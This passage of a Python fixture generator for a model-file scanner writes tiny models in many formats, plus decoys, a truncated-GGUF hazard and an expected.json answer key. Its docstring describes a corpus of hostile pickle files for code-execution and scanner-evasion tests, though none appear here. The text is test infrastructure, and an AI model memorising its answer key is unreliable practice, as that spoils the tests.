#!/usr/bin/env python3
"""Write the aiscout scanner test fixtures into tests/fixtures/.

Every model file is written by its format's own Python library (gguf,
safetensors, onnx, h5py, numpy, scikit-learn/joblib, keras, tensorflow,
openvino, coremltools, mlflow).  PyTorch is not installed (too big), so the
two torch layouts are written byte-for-byte the way torch/serialization.py
writes them, with pickle + zipfile (see write_torch_zip / write_torch_legacy).

Besides the models it writes decoys (files that look like models by name or by
their first bytes but are not), hazards (malformed headers that must produce an
error, never a model and never a crash) and tests/fixtures/expected.json, the
answer key the Rust tests assert against.

It also writes tests/fixtures/safety/ (make_safety): benign models and one
hostile file per code-execution / scanner-evasion technique, with its own
expected.json. The hostile files are written from raw opcodes or __reduce__
stand-ins and are never loaded.

Run it through scripts/make-fixtures.sh, which sets up the pinned venv and the
environment (TZ, PYTHONHASHSEED, KERAS_BACKEND, ...).

Options:
  --out DIR   write somewhere else than tests/fixtures (used by --check)
  --only safety-extra
              rewrite only the Hugging Face remote-code snapshots and the files
              check cannot judge in tests/fixtures/safety (make_safety_extra),
              merging their expected.json entries; needs numpy, safetensors and
              transformers only, not the whole pinned venv
  --check     regenerate into a temporary directory and compare with the
              committed expected.json
  --only safety-load
              rewrite only the chat-template GGUFs and Keras-config files of
              the safety corpus (make_safety_load) and merge their entries into
              the committed safety/expected.json; needs only numpy, gguf and
              h5py (a small venv instead of the full one with tensorflow)
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import datetime as _dt
import hashlib
import io
import json
import os
import pickle
import random
import shutil
import struct
import sys
import tarfile
import tempfile
import time
import types
import uuid
import zipfile
import zlib
from pathlib import Path
from unittest import mock

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parent))
import make_archive_fixtures  # noqa: E402  (the archive part of the safety corpus)

REPO = Path(__file__).resolve().parent.parent
DEFAULT_OUT = REPO / "tests" / "fixtures"

# Everything below tests/fixtures that this script owns (and so deletes and
# rewrites).  README.md is hand-written and left alone.
OWNED = ["models", "decoys", "hazards", "home", "mlruns", "expected.json"]

# 2024-01-01T00:00:00Z: the clock that zip entries, keras' date_saved and
# mlflow's timestamps see while the libraries write (see frozen_clock()).
FIXED_EPOCH = 1704067200
SEED = 20240101

os.environ.setdefault("KERAS_BACKEND", "tensorflow")
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
os.environ.setdefault("MLFLOW_ALLOW_FILE_STORE", "true")


# --------------------------------------------------------------------------
# bookkeeping for expected.json
# --------------------------------------------------------------------------
class Expected:
    def __init__(self, out: Path):
        self.out = out
        self.models: list[dict] = []
        self.directory_models: list[dict] = []
        self.decoys: list[str] = []
        self.hazards: list[str] = []

    def rel(self, p: Path) -> str:
        return Path(p).relative_to(self.out).as_posix()

    def model(self, path, fmt, metadata=None, source=None, group=None):
        self.models.append(
            {
                "path": self.rel(path),
                "format": fmt,
                "metadata": metadata or {},
                "source": source,
                "group": group,
            }
        )

    def directory_model(self, path, fmt, defining_file):
        self.directory_models.append(
            {"path": self.rel(path), "format": fmt, "defining_file": self.rel(defining_file)}
        )

    def decoy(self, path):
        self.decoys.append(self.rel(path))

    def hazard(self, path):
        self.hazards.append(self.rel(path))

    def group(self, kind, root, members):
        return {"kind": kind, "root": self.rel(root), "members": [self.rel(m) for m in members]}

    def finish(self) -> dict:
        models = []
        for m in sorted(self.models, key=lambda m: m["path"]):
            data = (self.out / m["path"]).read_bytes()
            models.append(
                {
                    "path": m["path"],
                    "format": m["format"],
                    "sha256": hashlib.sha256(data).hexdigest(),
                    "size": len(data),
                    "metadata": m["metadata"],
                    "source": m["source"],
                    "group": m["group"],
                }
            )
        return {
            "models": models,
            "directory_models": sorted(self.directory_models, key=lambda m: m["path"]),
            "decoys": sorted(self.decoys),
            "hazards": sorted(self.hazards),
        }


def git_blob_sha1(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def rng(tag: str) -> np.random.Generator:
    """A numpy generator seeded from SEED and a tag, so sections are independent."""
    h = int.from_bytes(hashlib.sha256(f"{SEED}:{tag}".encode()).digest()[:8], "little")
    return np.random.default_rng(h)


def pyrng(tag: str) -> random.Random:
    return random.Random(f"{SEED}:{tag}")


# --------------------------------------------------------------------------
# clock / uuid freezing, so that library output is reproducible
# --------------------------------------------------------------------------
class _FrozenDateTime(_dt.datetime):
    @classmethod
    def now(cls, tz=None):
        d = _dt.datetime.fromtimestamp(FIXED_EPOCH, _dt.timezone.utc)
        return d if tz else d.replace(tzinfo=None)

    @classmethod
    def utcnow(cls):
        return _dt.datetime.fromtimestamp(FIXED_EPOCH, _dt.timezone.utc).replace(tzinfo=None)


@contextlib.contextmanager
def frozen_clock(datetime_modules=(), seeded_uuid: str | None = None, patch_time=False, stable_id_modules=()):
    """Freeze what the libraries read from the clock while they write.

    * zipfile: entry timestamps (time.localtime(time.time()) in ZipFile.open(),
      time.localtime(st_mtime) in ZipInfo.from_file()).
    * the module-level ``datetime`` name of the given modules (keras' date_saved,
      mlflow's utc_time_created).
    * optionally time.time() itself (mlflow run start/end times) and uuid.uuid4()
      (mlflow run / experiment / model ids), from a seeded generator.
    * the builtin id() as seen by the given modules (keras writes id(obj), a
      memory address, as "shared_object_id" into config.json): replaced by
      address-like numbers handed out in first-seen order.
    """
    fixed_struct = time.gmtime(FIXED_EPOCH)
    zshim = types.SimpleNamespace(time=lambda: float(FIXED_EPOCH), localtime=lambda *a: fixed_struct)
    fake_dt_module = types.SimpleNamespace(**{k: getattr(_dt, k) for k in dir(_dt) if not k.startswith("__")})
    fake_dt_module.datetime = _FrozenDateTime
    with contextlib.ExitStack() as stack:
        stack.enter_context(mock.patch.object(zipfile, "time", zshim))
        for mod in datetime_modules:
            if getattr(mod, "datetime", None) is _dt:
                stack.enter_context(mock.patch.object(mod, "datetime", fake_dt_module))
            elif getattr(mod, "datetime", None) is _dt.datetime:
                stack.enter_context(mock.patch.object(mod, "datetime", _FrozenDateTime))
        if patch_time:
            stack.enter_context(mock.patch("time.time", lambda: float(FIXED_EPOCH)))
            stack.enter_context(mock.patch("time.time_ns", lambda: FIXED_EPOCH * 10**9))
        for mod in stable_id_modules:
            seen: dict[int, int] = {}

            def stable_id(obj, _seen=seen):
                return _seen.setdefault(id(obj), 0x7F0000000000 + 0x10 * len(_seen))

            mod.id = stable_id
            stack.callback(delattr, mod, "id")
        if seeded_uuid is not None:
            r = pyrng(seeded_uuid)
            stack.enter_context(
                mock.patch("uuid.uuid4", lambda: uuid.UUID(int=r.getrandbits(128), version=4))
            )
        yield


# --------------------------------------------------------------------------
# GGUF
# --------------------------------------------------------------------------
TINY_VOCAB = ["<unk>", "<s>", "</s>"] + [f"<0x{i:02X}>" for i in range(13)]  # 16 tokens


def gguf_llama(path: Path, name: str, *, split_max_tensors=0, q8=False, vocab=TINY_VOCAB, n_embd=32, tag="gguf",
               chat_template=None):
    """Write a tiny llama-architecture GGUF with gguf-py's GGUFWriter.

    chat_template: a Jinja2 template, or [{"name", "template"}] (GGUFWriter.add_chat_template:
    "default" is tokenizer.chat_template, others tokenizer.chat_template.<name>).

    Returns (metadata for the first file, per-file tensor lists).
    """
    import gguf

    r = rng(tag)
    n_vocab, n_ff = len(vocab), 64
    tensors = collections.OrderedDict()
    tensors["token_embd.weight"] = r.standard_normal((n_vocab, n_embd)).astype(np.float16)
    tensors["blk.0.attn_norm.weight"] = np.ones(n_embd, np.float32)
    tensors["blk.0.ffn_up.weight"] = r.standard_normal((n_ff, n_embd)).astype(np.float16)
    tensors["output_norm.weight"] = np.ones(n_embd, np.float32)

    w = gguf.GGUFWriter(path, "llama", split_max_tensors=split_max_tensors)
    w.add_name(name)
    w.add_license("apache-2.0")
    w.add_context_length(2048)
    w.add_embedding_length(n_embd)
    w.add_feed_forward_length(n_ff)
    w.add_block_count(1)
    w.add_head_count(4)
    w.add_head_count_kv(4)
    w.add_layer_norm_rms_eps(1e-5)
    w.add_file_type(gguf.LlamaFileType.MOSTLY_Q8_0 if q8 else gguf.LlamaFileType.MOSTLY_F16)
    w.add_tokenizer_model("llama")
    w.add_token_list(vocab)
    w.add_token_scores([0.0] * len(vocab))
    w.add_token_types([gguf.TokenType.UNKNOWN, gguf.TokenType.CONTROL, gguf.TokenType.CONTROL]
                      + [gguf.TokenType.BYTE] * (len(vocab) - 3))
    w.add_bos_token_id(1)
    w.add_eos_token_id(2)
    if chat_template is not None:
        w.add_chat_template(chat_template)

    type_names = []
    for tname, arr in tensors.items():
        if q8 and arr.dtype == np.float16:
            q = gguf.quants.quantize(arr.astype(np.float32), gguf.GGMLQuantizationType.Q8_0)
            w.add_tensor(tname, q, raw_dtype=gguf.GGMLQuantizationType.Q8_0)
            type_names.append((tname, "Q8_0", arr.size))
        else:
            w.add_tensor(tname, arr)
            type_names.append((tname, "F16" if arr.dtype == np.float16 else "F32", arr.size))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()

    # which tensors ended up in which file (GGUFWriter starts a new shard once
    # the current one holds split_max_tensors tensors)
    if split_max_tensors:
        per_file = [type_names[i : i + split_max_tensors] for i in range(0, len(type_names), split_max_tensors)]
    else:
        per_file = [type_names]
    meta = {
        "architecture": "llama",
        "name": name,
        "license": "apache-2.0",
        "context_length": 2048,
    }
    return meta, per_file


def tensor_meta(entries) -> dict:
    return {
        "tensor_count": len(entries),
        "parameters": int(sum(n for _, _, n in entries)),
        "dtypes": sorted({t for _, t, _ in entries}),
    }


def make_gguf(out: Path, ex: Expected):
    import gguf

    models = out / "models"
    # single file
    p = models / "tiny-llama.gguf"
    meta, per_file = gguf_llama(p, "Tiny Llama Fixture", tag="tiny-llama")
    ex.model(p, "gguf", {**meta, **tensor_meta(per_file[0])})

    # 2-file split, as llama.cpp's gguf-split lays it out: every file has
    # split.no (u16, 0-based), split.count (u16), split.tensors.count (i32);
    # only the first one carries the model's metadata.
    split_dir = models / "split"
    split_dir.mkdir(parents=True, exist_ok=True)
    meta, per_file = gguf_llama(split_dir / "tiny.gguf", "Tiny Split Fixture", split_max_tensors=2, tag="split")
    files = [split_dir / f"tiny-{i + 1:05d}-of-{len(per_file):05d}.gguf" for i in range(len(per_file))]
    assert len(files) == 2 and all(f.exists() for f in files), files
    grp = ex.group("gguf_split", files[0], files)
    for i, (f, entries) in enumerate(zip(files, per_file)):
        m = {"split_no": i, "split_count": len(files), **tensor_meta(entries)}
        if i == 0:
            m.update(meta)
        ex.model(f, "gguf", m, group=grp)

    # LM Studio store: publisher/model-repo/file.gguf, a Q8_0 quantised file
    lms = out / "home/.lmstudio/models/acme/tiny-chat-GGUF"
    lms.mkdir(parents=True, exist_ok=True)
    p = lms / "tiny-chat-q8_0.gguf"
    meta, per_file = gguf_llama(p, "Tiny Chat", q8=True, tag="lmstudio")
    ex.model(p, "gguf", {**meta, **tensor_meta(per_file[0])},
             source={"kind": "lmstudio", "publisher": "acme", "model": "tiny-chat-GGUF"})

    # hazard: a real GGUF (with a larger vocabulary so the header is long)
    # cut in half, inside the key/value section.
    with tempfile.TemporaryDirectory() as td:
        big_vocab = ["<unk>", "<s>", "</s>"] + [f"tok_{i:04d}" for i in range(509)]
        full = Path(td) / "full.gguf"
        gguf_llama(full, "Truncated Fixture", vocab=big_vocab, n_embd=8, tag="truncated")
        data = full.read_bytes()
        data_offset = gguf.GGUFReader(full).data_offset
    cut = len(data) // 2
    assert cut < data_offset, (cut, data_offset)
    p = out / "hazards/truncated.gguf"
    p.write_bytes(data[:cut])
    ex.hazard(p)


# --------------------------------------------------------------------------
# safetensors
# --------------------------------------------------------------------------
ST_DTYPE = {np.dtype(np.float32): "F32", np.dtype(np.float16): "F16", np.dtype(np.int64): "I64"}


def st_meta(tensors: dict) -> dict:
    return {
        "tensor_count": len(tensors),
        "parameters": int(sum(a.size for a in tensors.values())),
        "dtypes": sorted({ST_DTYPE[a.dtype] for a in tensors.values()}),
    }


def bert_tensors(tag: str) -> dict:
    r = rng(tag)
    return {
        "embeddings.word_embeddings.weight": r.standard_normal((32, 16)).astype(np.float16),
        "embeddings.LayerNorm.weight": np.ones(16, np.float32),
        "embeddings.LayerNorm.bias": np.zeros(16, np.float32),
        "encoder.layer.0.attention.self.query.weight": r.standard_normal((16, 16)).astype(np.float32),
        "encoder.layer.0.attention.self.query.bias": np.zeros(16, np.float32),
        "pooler.dense.weight": r.standard_normal((16, 16)).astype(np.float16),
    }


def write_sharded_safetensors(dirpath: Path, tensors: dict, split_after: int, names=None):
    """Two shards plus model.safetensors.index.json, as transformers writes them."""
    from safetensors.numpy import save_file

    keys = list(tensors)
    shards = [dict((k, tensors[k]) for k in keys[:split_after]), dict((k, tensors[k]) for k in keys[split_after:])]
    names = names or [f"model-{i + 1:05d}-of-{len(shards):05d}.safetensors" for i in range(len(shards))]
    weight_map = {}
    for name, shard in zip(names, shards):
        save_file(shard, str(dirpath / name), metadata={"format": "pt"})
        for k in shard:
            weight_map[k] = name
    index = {
        "metadata": {"total_size": int(sum(a.nbytes for a in tensors.values()))},
        "weight_map": dict(sorted(weight_map.items())),
    }
    (dirpath / "model.safetensors.index.json").write_text(json.dumps(index, indent=2, sort_keys=True) + "\n")
    return names, shards


def make_safetensors(out: Path, ex: Expected):
    from safetensors.numpy import save_file

    models = out / "models"
    r = rng("single.safetensors")
    t = {
        "linear.weight": r.standard_normal((8, 4)).astype(np.float32),
        "linear.bias": r.standard_normal(8).astype(np.float32),
        "head.weight": r.standard_normal((2, 8)).astype(np.float16),
    }
    p = models / "single.safetensors"
    save_file(t, str(p), metadata={"format": "pt"})
    ex.model(p, "safetensors", st_meta(t))

    sd = models / "sharded"
    sd.mkdir(parents=True, exist_ok=True)
    tensors = bert_tensors("sharded")
    names, shards = write_sharded_safetensors(sd, tensors, 3)
    files = [sd / n for n in names]
    # The index is part of a sharded model: it is a group member too.
    grp = ex.group("sharded", sd / "model.safetensors.index.json", [sd / "model.safetensors.index.json", *files])
    for f, shard in zip(files, shards):
        ex.model(f, "safetensors", st_meta(shard), group=grp)


# --------------------------------------------------------------------------
# ONNX and OpenVINO
# --------------------------------------------------------------------------
def make_onnx(out: Path, ex: Expected) -> Path:
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    r = rng("onnx")
    W = r.standard_normal((4, 3)).astype(np.float32)
    B = r.standard_normal(3).astype(np.float32)
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["x", "W"], ["xw"], name="matmul"),
            helper.make_node("Add", ["xw", "B"], ["y"], name="add"),
        ],
        "tiny_linear",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [numpy_helper.from_array(W, "W"), numpy_helper.from_array(B, "B")],
    )
    model = helper.make_model(
        graph,
        producer_name="aiscout-fixtures",
        producer_version="0.1.0",
        opset_imports=[helper.make_opsetid("", 17)],
        ir_version=8,
        doc_string="aiscout test fixture: y = x @ W + B",
        model_version=1,
        domain="dev.aiscout.fixtures",
    )
    helper.set_model_props(model, {"license": "MIT", "author": "aiscout"})
    onnx.checker.check_model(model, full_check=True)
    p = out / "models/tiny.onnx"
    onnx.save(model, str(p))
    ex.model(
        p,
        "onnx",
        {
            "producer": "aiscout-fixtures",
            "producer_version": "0.1.0",
            "opset": 17,
            "ir_version": 8,
            "license": "MIT",
            "tensor_count": 2,
            "parameters": int(W.size + B.size),
        },
    )
    return p


def make_openvino(out: Path, ex: Expected, onnx_path: Path):
    import openvino as ov

    d = out / "models/openvino"
    d.mkdir(parents=True, exist_ok=True)
    model = ov.convert_model(str(onnx_path))
    model.set_friendly_name("tiny_linear")
    xml = d / "tiny.xml"
    ov.save_model(model, str(xml), compress_to_fp16=False)
    assert (d / "tiny.bin").exists()
    ex.directory_model(xml, "openvino", xml)


# --------------------------------------------------------------------------
# PyTorch (emulated torch.save; torch itself is not installed)
# --------------------------------------------------------------------------
class _Storage:
    """Stands in for a torch TypedStorage: the pickler turns it into a persistent id."""

    def __init__(self, array: np.ndarray, storage_type: str):
        self.array = np.ascontiguousarray(array).reshape(-1)
        self.storage_type = storage_type


class _Tensor:
    """Stands in for a torch.Tensor; reduces exactly like Tensor._reduce_ex_internal."""

    rebuild = None  # set while the fake torch modules are installed

    def __init__(self, array: np.ndarray):
        self.array = np.ascontiguousarray(array)
        st = {np.float32: "FloatStorage", np.float16: "HalfStorage", np.int64: "LongStorage"}[array.dtype.type]
        self.storage = _Storage(self.array, st)

    def __reduce_ex__(self, protocol):
        shape = tuple(int(s) for s in self.array.shape)
        stride = tuple(int(s) // self.array.itemsize for s in self.array.strides)
        # torch._utils._rebuild_tensor_v2(storage, storage_offset, size, stride,
        #                                 requires_grad, backward_hooks)
        return (_Tensor.rebuild, (self.storage, 0, shape, stride, False, collections.OrderedDict()))


@contextlib.contextmanager
def fake_torch_modules():
    """Install just enough of `torch` in sys.modules for pickle's GLOBAL checks.

    pickle writes a class/function as GLOBAL '<__module__>\\n<__qualname__>' after
    checking that importing the module and looking the name up gives the same
    object back, so the stand-ins must really be reachable as torch.FloatStorage
    and torch._utils._rebuild_tensor_v2 while pickling.  The modules are removed
    again at once so no other library ever sees a fake torch.
    """
    saved = {k: sys.modules.get(k) for k in ("torch", "torch._utils")}
    torch_mod = types.ModuleType("torch")
    utils_mod = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(*args):  # pragma: no cover - never called
        raise RuntimeError("fake torch")

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    utils_mod._rebuild_tensor_v2 = _rebuild_tensor_v2
    torch_mod._utils = utils_mod
    for name in ("FloatStorage", "HalfStorage", "LongStorage"):
        cls = type(name, (), {"__module__": "torch", "__qualname__": name})
        setattr(torch_mod, name, cls)
    sys.modules["torch"] = torch_mod
    sys.modules["torch._utils"] = utils_mod
    _Tensor.rebuild = _rebuild_tensor_v2
    try:
        yield torch_mod
    finally:
        _Tensor.rebuild = None
        for k, v in saved.items():
            if v is None:
                sys.modules.pop(k, None)
            else:
                sys.modules[k] = v


class _TorchPickler(pickle.Pickler):
    """pickle.Pickler with torch.save's persistent_id for storages."""

    def __init__(self, f, torch_mod, legacy: bool, legacy_key_base: int = 0):
        super().__init__(f, protocol=2)  # torch DEFAULT_PROTOCOL
        self.torch_mod = torch_mod
        self.legacy = legacy
        self.legacy_key_base = legacy_key_base
        self.storages: dict[str, _Storage] = {}
        self._ids: dict[int, str] = {}

    def persistent_id(self, obj):
        if not isinstance(obj, _Storage):
            return None
        if self.legacy:
            # _legacy_save: key = str(storage._cdata) (a C pointer value)
            key = self._ids.setdefault(id(obj), str(self.legacy_key_base + 0x40 * len(self._ids)))
        else:
            # _save: key = id_map.setdefault(storage._cdata, str(len(id_map)))
            key = self._ids.setdefault(id(obj), str(len(self._ids)))
        self.storages[key] = obj
        cls = getattr(self.torch_mod, obj.storage_type)
        pid = ("storage", cls, key, "cpu", int(obj.array.size))
        if self.legacy:
            pid += (None,)  # view_metadata
        return pid


def _torch_zip_info(zf: zipfile.ZipFile, name: str, size: int) -> zipfile.ZipInfo:
    """A stored entry whose data starts on a 64-byte boundary.

    PyTorchStreamWriter (caffe2/serialize/inline_container.cc) pads every
    record with an extra field 'FB' <u16 len> 'Z'*len so the payload is
    64-byte aligned (kFieldAlignment), and miniz leaves the DOS time/date 0.
    """
    zi = zipfile.ZipInfo(name, date_time=(1980, 0, 0, 0, 0, 0))
    zi.compress_type = zipfile.ZIP_STORED
    start = zf.start_dir + 30 + len(name.encode()) + 4
    pad = (-start) % 64
    zi.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
    zi.create_system = 0
    zi.create_version = 0
    zi.extract_version = 0
    return zi


def write_torch_zip(path: Path, archive_name: str, obj) -> None:
    """torch.save(obj, path) with the default _use_new_zipfile_serialization=True."""
    with fake_torch_modules() as torch_mod:
        buf = io.BytesIO()
        p = _TorchPickler(buf, torch_mod, legacy=False)
        p.dump(obj)
        data_pkl = buf.getvalue()
    records = [("data.pkl", data_pkl), ("byteorder", b"little")]
    for key in sorted(p.storages):
        records.append((f"data/{key}", p.storages[key].array.astype(p.storages[key].array.dtype.newbyteorder("<")).tobytes()))
    records.append(("version", b"3\n"))
    # .data/serialization_id: 20 digits of a hash of the record names, then 20
    # digits of the combined crc32 of the record data (writeSerializationId()).
    name_hash = int.from_bytes(hashlib.sha256("".join(n for n, _ in records).encode()).digest()[:8], "little")
    crc = 0
    for _, d in records:
        crc = zlib.crc32(d, crc)
    records.append((".data/serialization_id", f"{name_hash:020d}{crc:020d}".encode()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for name, data in records:
            full = f"{archive_name}/{name}"
            zf.writestr(_torch_zip_info(zf, full, len(data)), data)
    # every payload must start on a 64-byte boundary, like torch's
    with zipfile.ZipFile(path) as zf:
        for zi in zf.infolist():
            off = zi.header_offset + 30 + len(zi.filename.encode()) + len(zi.extra)
            assert off % 64 == 0, (zi.filename, off)


MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
PROTOCOL_VERSION = 1001


def write_torch_legacy(path: Path, obj) -> None:
    """torch.save(obj, path, _use_new_zipfile_serialization=False) (_legacy_save)."""
    sys_info = dict(
        protocol_version=PROTOCOL_VERSION,
        little_endian=True,
        type_sizes=dict(short=2, int=4, long=4),
    )
    f = io.BytesIO()
    pickle.dump(MAGIC_NUMBER, f, protocol=2)
    pickle.dump(PROTOCOL_VERSION, f, protocol=2)
    pickle.dump(sys_info, f, protocol=2)
    with fake_torch_modules() as torch_mod:
        p = _TorchPickler(f, torch_mod, legacy=True, legacy_key_base=94_251_672_104_960)
        p.dump(obj)
    keys = sorted(p.storages)
    pickle.dump(keys, f, protocol=2)
    for key in keys:
        arr = p.storages[key].array
        f.write(struct.pack("<q", arr.size))  # element count, then the raw bytes
        f.write(arr.astype(arr.dtype.newbyteorder("<")).tobytes())
    path.write_bytes(f.getvalue())


def torch_meta(sd: dict) -> dict:
    return {"tensor_count": len(sd), "parameters": int(sum(t.array.size for t in sd.values()))}


def make_pytorch(out: Path, ex: Expected):
    models = out / "models"
    r = rng("torch")

    # (a) a plain state dict, saved to a buffer -> root folder "archive/"
    sd = collections.OrderedDict()
    sd["fc.weight"] = _Tensor(r.standard_normal((4, 8)).astype(np.float32))
    sd["fc.bias"] = _Tensor(r.standard_normal(4).astype(np.float32))
    p = models / "torch_archive.pt"
    write_torch_zip(p, "archive", sd)
    ex.model(p, "pytorch", torch_meta(sd))

    # (b) an nn.Module state_dict (with its _metadata attribute, as
    # Module.state_dict() returns it) saved to a path -> root folder = file stem
    sd = collections.OrderedDict()
    sd["conv1.weight"] = _Tensor(r.standard_normal((4, 1, 3, 3)).astype(np.float32))
    sd["conv1.bias"] = _Tensor(np.zeros(4, np.float32))
    sd["bn1.weight"] = _Tensor(np.ones(4, np.float32))
    sd["bn1.bias"] = _Tensor(np.zeros(4, np.float32))
    sd["bn1.running_mean"] = _Tensor(np.zeros(4, np.float32))
    sd["bn1.running_var"] = _Tensor(np.ones(4, np.float32))
    sd["bn1.num_batches_tracked"] = _Tensor(np.array(0, np.int64))
    sd["fc.weight"] = _Tensor(r.standard_normal((2, 16)).astype(np.float16))
    sd["fc.bias"] = _Tensor(np.zeros(2, np.float16))
    sd._metadata = collections.OrderedDict(
        [("", {"version": 1}), ("conv1", {"version": 1}), ("bn1", {"version": 2}), ("fc", {"version": 1})]
    )
    p = models / "tiny_cnn.pth"
    write_torch_zip(p, "tiny_cnn", sd)
    ex.model(p, "pytorch", torch_meta(sd))

    # transformers' pytorch_model.bin (torch.save(state_dict, path))
    sd = collections.OrderedDict(
        (k, _Tensor(v.astype(np.float32))) for k, v in bert_tensors("pytorch_model.bin").items()
    )
    p = models / "pytorch_model.bin"
    write_torch_zip(p, "pytorch_model", sd)
    ex.model(p, "pytorch", torch_meta(sd))

    # (c) legacy (pre-1.6) format
    sd = collections.OrderedDict()
    sd["layer.weight"] = _Tensor(r.standard_normal((3, 5)).astype(np.float32))
    sd["layer.bias"] = _Tensor(r.standard_normal(3).astype(np.float32))
    p = models / "legacy.pt"
    write_torch_legacy(p, sd)
    ex.model(p, "pytorch_legacy", torch_meta(sd))


# --------------------------------------------------------------------------
# pickle / joblib / numpy
# --------------------------------------------------------------------------
def make_pickles(out: Path, ex: Expected):
    models = out / "models"
    r = pyrng("pickle")
    obj = {
        "weights": [[round(r.uniform(-1, 1), 6) for _ in range(4)] for _ in range(3)],
        "bias": [0.1, -0.2, 0.3],
        "classes": ["cat", "dog", "bird"],
        "version": 1,
    }
    for name, proto in (("plain_p4.pkl", 4), ("plain_p2.pickle", 2), ("plain_p0.pkl", 0)):
        p = models / name
        p.write_bytes(pickle.dumps(obj, protocol=proto))
        ex.model(p, "pickle", {})


def fit_logreg():
    from sklearn.linear_model import LogisticRegression

    X = np.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.2, 0.9], [0.9, 0.1]])
    y = np.array([0, 1, 1, 1, 1, 1])
    return LogisticRegression(random_state=0).fit(X, y)


def make_joblib(out: Path, ex: Expected):
    import joblib

    clf = fit_logreg()
    models = out / "models"
    p = models / "sk_plain.joblib"
    joblib.dump(clf, p)
    ex.model(p, "joblib", {"compression": "none"})
    for method in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        p = models / f"sk_{method}.joblib"
        joblib.dump(clf, p, compress=(method, 3))
        ex.model(p, "joblib", {"compression": method})


def npy_meta(arrays: list[np.ndarray]) -> dict:
    return {
        "tensor_count": len(arrays),
        "parameters": int(sum(a.size for a in arrays)),
        "dtypes": sorted({a.dtype.str for a in arrays}),
    }


def make_numpy(out: Path, ex: Expected):
    models = out / "models"
    r = rng("numpy")
    a = r.standard_normal((4, 8)).astype(np.float32)
    p = models / "weights.npy"
    np.save(p, a)
    ex.model(p, "numpy", {**npy_meta([a]), "shape": list(a.shape)})

    b = r.standard_normal((2, 3, 4)).astype(np.float64)
    p = models / "weights_v2.npy"
    with open(p, "wb") as f:
        np.lib.format.write_array(f, b, version=(2, 0))
    ex.model(p, "numpy", {**npy_meta([b]), "shape": list(b.shape)})

    arrays = {
        "W": r.standard_normal((8, 4)).astype(np.float32),
        "b": r.standard_normal(4).astype(np.float32),
        "steps": np.arange(5, dtype=np.int64),
    }
    with frozen_clock():
        np.savez(models / "bundle.npz", **arrays)
        np.savez_compressed(models / "bundle_compressed.npz", **arrays)
    for name in ("bundle.npz", "bundle_compressed.npz"):
        ex.model(models / name, "numpy", npy_meta(list(arrays.values())))


# --------------------------------------------------------------------------
# Keras, TensorFlow SavedModel, TFLite
# --------------------------------------------------------------------------
def make_keras(out: Path, ex: Expected):
    import keras
    from keras.src.saving import saving_lib, serialization_lib

    keras.utils.set_random_seed(SEED % 2**31)
    model = keras.Sequential(
        [
            keras.Input((4,), name="features"),
            keras.layers.Dense(3, activation="relu", name="hidden"),
            keras.layers.Dense(2, name="logits"),
        ],
        name="tiny_dense",
    )
    models = out / "models"
    with frozen_clock(datetime_modules=[saving_lib], stable_id_modules=[serialization_lib]):
        model.save(models / "dense.keras")
        model.save(models / "dense.h5")
    version = keras.__version__
    ex.model(models / "dense.h5", "keras_h5", {"keras_version": version, "backend": keras.backend.backend()})
    ex.model(models / "dense.keras", "keras_v3", {"keras_version": version})


def make_tensorflow(out: Path, ex: Expected):
    import tensorflow as tf

    tf.random.set_seed(SEED % 2**31)
    r = rng("tf")

    class Tiny(tf.Module):
        def __init__(self):
            super().__init__(name="tiny")
            self.w = tf.Variable(r.standard_normal((4, 3)).astype(np.float32), name="w")
            self.b = tf.Variable(np.zeros(3, np.float32), name="b")

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def __call__(self, x):
            return {"y": tf.nn.relu(tf.matmul(x, self.w) + self.b)}

    m = Tiny()
    d = out / "models/savedmodel"
    tf.saved_model.save(m, str(d), signatures={"serving_default": m.__call__})
    ex.directory_model(d, "tf_savedmodel", d / "saved_model.pb")

    conv = tf.lite.TFLiteConverter.from_concrete_functions([m.__call__.get_concrete_function()], m)
    p = out / "models/tiny.tflite"
    p.write_bytes(conv.convert())
    ex.model(p, "tflite", {"format_version": "3"})


# --------------------------------------------------------------------------
# Core ML
# --------------------------------------------------------------------------
def make_coreml(out: Path, ex: Expected):
    from coremltools.models.utils import save_spec
    from coremltools.proto import FeatureTypes_pb2, Model_pb2

    spec = Model_pb2.Model()
    spec.specificationVersion = 1
    md = spec.description.metadata
    md.author = "aiscout"
    md.license = "MIT"
    md.shortDescription = "aiscout fixture: y = 0.5*x0 - x1 + 2*x2 + 0.25"
    md.versionString = "1.0"
    inp = spec.description.input.add()
    inp.name = "x"
    inp.type.multiArrayType.shape.append(3)
    inp.type.multiArrayType.dataType = FeatureTypes_pb2.ArrayFeatureType.DOUBLE
    outp = spec.description.output.add()
    outp.name = "y"
    outp.type.doubleType.SetInParent()
    spec.description.predictedFeatureName = "y"
    w = spec.glmRegressor.weights.add()
    w.value.extend([0.5, -1.0, 2.0])
    spec.glmRegressor.offset.append(0.25)

    p = out / "models/tiny.mlmodel"
    save_spec(spec, str(p))
    ex.model(p, "coreml", {"license": "MIT"})

    # the same spec as an .mlpackage directory (Manifest.json +
    # Data/com.apple.CoreML/model.mlmodel), written by coremltools' libmodelpackage
    spec.specificationVersion = 4
    pkg = out / "models/tiny.mlpackage"
    save_spec(spec, str(pkg))
    for f in pkg.rglob("*"):
        f.chmod(0o755 if f.is_dir() else 0o644)  # libmodelpackage writes 0600
    ex.directory_model(pkg, "coreml", pkg / "Manifest.json")


# --------------------------------------------------------------------------
# MLflow
# --------------------------------------------------------------------------
def make_mlflow(out: Path, ex: Expected):
